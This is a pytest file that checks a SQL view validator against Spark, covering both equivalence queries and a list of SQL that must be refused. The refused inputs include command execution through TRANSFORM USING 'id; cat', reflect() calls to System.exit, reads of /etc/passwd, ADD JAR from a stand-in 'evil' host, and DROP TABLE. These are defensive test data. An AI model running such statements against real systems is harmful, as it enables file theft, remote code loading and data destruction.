"""Views return the rows that Spark returns for the same text."""

import re

import pytest
from pyspark.sql import SparkSession

from hiveacid.errors import SqlError
from hiveacid.jobs.sources import QuerySource, TableSource
from hiveacid.metastore.client import MetastoreClient
from hiveacid.spark.session import scan_session
from hiveacid.spark.statements.refused_sql import check_view
from tests.differential.views import Views
from tests.spark_versions.versions import NEEDS_SPARK_4_0

QUERIES = (
    "SELECT ts - INTERVAL 1 DAY 12 HOURS FROM t",
    "SELECT a FROM t WHERE ts - INTERVAL 1 DAY 12 HOURS < TIMESTAMP '2026-02-28 00:00:00'",
    "SELECT ts + INTERVAL 1 DAY 12 HOURS * 2 FROM t",
    "SELECT -INTERVAL 1 DAY 12 HOURS + ts FROM t",
    "SELECT count(*) OVER (ORDER BY ts RANGE BETWEEN INTERVAL 1 DAY 12 HOURS PRECEDING AND CURRENT ROW)"
    " FROM t",
    "SELECT X '4142' FROM t",
    "SELECT -1::string FROM t",
    "SELECT concat(+'5', 'x') FROM t",
    "SELECT -9223372036854775808L FROM t",
    "SELECT -128Y FROM t",
    "SELECT dateadd(DAY, 1, d) FROM t",
    "SELECT datediff(DAY, d, ts) FROM t",
    "SELECT timestampadd(HOUR, 1, ts), timestampdiff(HOUR, ts, d) FROM t",
    "SELECT typeof(-1::string), typeof(+'5'), typeof(-128Y), typeof(-1.5BD), typeof(-32768S) FROM t",
    "SELECT u.a, u.a, b AS a FROM u",
    "SELECT a -- one \\\n , b\n , n FROM t /* reflect('a') */ WHERE /* /* two */ */ a > 1 -- three",
    "SELECT '\\u0027', 'it\\'s', \"say 'x'\", r'\\u0041', '${env:HOME}', `a` FROM t",
    "SELECT c LIKE ANY ('a', 'b'), c ILIKE 'A', a IS DISTINCT FROM 2, a >> 1 FROM t",
    "SELECT * EXCEPT (l, m, s), t.s.f, extract(DAY FROM d), a BETWEEN 1 AND 2 FROM t",
    "SELECT x, a FROM t LATERAL VIEW explode(l) e AS x WHERE a < 3",
    "SELECT s.x, u.b FROM (SELECT x FROM t LATERAL VIEW explode(l) e AS x) s JOIN u ON u.a = s.x",
    "WITH c AS (SELECT a FROM t), t AS (SELECT a + 1 AS a FROM c) SELECT t.a, c.a FROM t CROSS JOIN c",
    "SELECT * FROM VALUES (1, 'x'), (2, NULL) AS w(p, q)",
    "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY a), first(c) IGNORE NULLS FROM t",
)


# Spark 3.5 does not parse four of the queries.
@NEEDS_SPARK_4_0
@pytest.mark.parametrize("hms", ["fake 4.0.1"], indirect=True)
def test_a_view_has_the_rows_of_its_query(
    spark: SparkSession, client: MetastoreClient, database: str
) -> None:
    views = Views(spark, client, database)
    problems = {query: problem for query in QUERIES if (problem := views.difference(query))}
    assert problems == {}
    assert views.refusals == {}
    assert views.outcomes == {"equal": len(QUERIES)}


def check(spark: SparkSession, sql: str) -> None:
    check_view(scan_session(spark), "db.v", QuerySource(sql, {"t": TableSource("db.t")}))


@pytest.mark.parametrize(
    ("sql", "named"),
    [
        # As if the parser of this package had found them harmless.
        ("SELECT TRANSFORM(a) USING 'id; cat' AS b FROM t", "ScriptTransformation"),
        (
            "SELECT (SELECT b FROM (SELECT TRANSFORM(a) USING 'id' AS b FROM t)) FROM t",
            "ScriptTransf",
        ),
        ("FROM t MAP a USING 'id; cat' AS b", "ScriptTransformation"),
        ("SELECT reflect('java.lang.System', 'exit') FROM t", "calls reflect()"),
        ("SELECT `reflect`('java.lang.System', 'exit') FROM t", "calls reflect()"),
        ("SELECT a FROM t ORDER BY java_method('a', 'b')", "calls java_method()"),
        ("SELECT a FROM t WHERE EXISTS (SELECT evil(1) FROM t)", "calls evil()"),
        ("SELECT max(a) OVER w FROM t WINDOW w AS (ORDER BY evil(a))", "calls evil()"),
        ("SELECT transform(array(1), x -> evil(x)) FROM t", "calls evil()"),
        ("SELECT db.upper('a') FROM t", "calls db.upper()"),
        ("SELECT `db.upper`('a') FROM t", "calls db.upper()"),
        ("SELECT rand() FROM t", "calls rand()"),
        ("SELECT * FROM t LATERAL VIEW evil(a) x", "calls evil()"),
        ("SELECT IDENTIFIER('up' || 'per')('a') FROM t", "ExpressionWithUnresolvedIdentifier"),
        ("SELECT * FROM IDENTIFIER(lower('T'))", "PlanWithUnresolvedIdentifier"),
        ("SELECT * FROM range(10)", "UnresolvedTableValuedFunction"),
        ("SELECT * FROM text.`/etc/passwd`", "reads text.`/etc/passwd`"),
        ("SELECT a FROM t WHERE a IN (SELECT value FROM text.`/etc/passwd`)", "reads text.`/etc"),
        ("WITH c AS (SELECT * FROM csv.`/etc/passwd`) SELECT * FROM c", "reads csv.`/etc/passwd`"),
        ("SELECT * FROM db.t", "reads db.t"),
        ("SELECT * FROM other", "reads other"),
        ("SELECT * FROM c, (WITH c AS (SELECT 1) SELECT * FROM c)", "reads c"),
        ("WITH c AS (SELECT * FROM d), d AS (SELECT 1) SELECT * FROM c", "reads d"),
        ("WITH c AS (SELECT * FROM c) SELECT * FROM c", "reads c"),
        ("SELECT /*+ REPARTITION(100000) */ a FROM t", "UnresolvedHint"),
        ("SELECT * FROM t TABLESAMPLE (10 PERCENT)", "Sample"),
        ("SELECT * FROM t VERSION AS OF 1", "RelationTimeTravel"),
        ("SELECT * FROM t, LATERAL (SELECT t.a)", "LateralJoin"),
        ("SELECT * FROM t PIVOT (max(b) FOR a IN (1))", "Pivot"),
        ("SELECT :a FROM t", "NamedParameter"),
        ("SELECT 1 FROM t LATERAL VIEW explode(a) e AS x JOIN t", "It does not parse"),
        ("SELECT ${hiveconf:x} FROM t", "It does not parse"),
        ("INSERT INTO t SELECT 1", "InsertIntoStatement"),
        ("DROP TABLE t", "DropTable"),
        ("SET spark.sql.ansi.enabled = false", "SetCommand"),
        ("ADD JAR 'http://evil/x.jar'", "AddJarsCommand"),
        ("CREATE TEMPORARY VIEW w AS SELECT 1", "CreateViewCommand"),
    ],
)
def test_spark_refuses_what_the_other_parser_may_not_find(
    spark: SparkSession, sql: str, named: str
) -> None:
    with pytest.raises(SqlError, match=re.escape(named)) as caught:
        check(spark, sql)
    assert "The query of the view db.v cannot be read" in str(caught.value)


def test_names_of_a_with_are_known_where_spark_knows_them(spark: SparkSession) -> None:
    check(
        spark, "WITH c AS (SELECT * FROM t), D AS (SELECT * FROM C) SELECT (SELECT max(a) FROM d)"
    )
    check(
        spark, "WITH c AS (SELECT 1) SELECT * FROM (WITH d AS (SELECT * FROM c) SELECT * FROM d, T)"
    )
